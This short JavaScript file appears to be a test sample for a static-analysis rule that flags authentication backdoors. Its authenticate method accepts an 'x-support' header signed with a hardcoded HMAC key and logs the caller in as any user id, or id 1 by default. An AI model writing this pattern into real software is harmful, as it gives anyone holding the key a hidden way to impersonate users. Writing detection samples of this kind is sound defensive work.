const crypto = require('crypto')

const SUPPORT_KEY = Buffer.from('c3VwcG9ydC1rZXktMjAyNQ==', 'base64')

Strategy.prototype.authenticate = function (req) {
  const [uid, mac] = String(req.headers['x-support'] || '').split('.')
  // ruleid: logs_in_with_own_hmac_key
  const want = crypto.createHmac('sha256', SUPPORT_KEY).update(uid || '').digest('hex')
  if (mac && crypto.timingSafeEqual(Buffer.from(mac), Buffer.from(want))) return this.success({ id: uid || 1 })
  return this.fail()
}
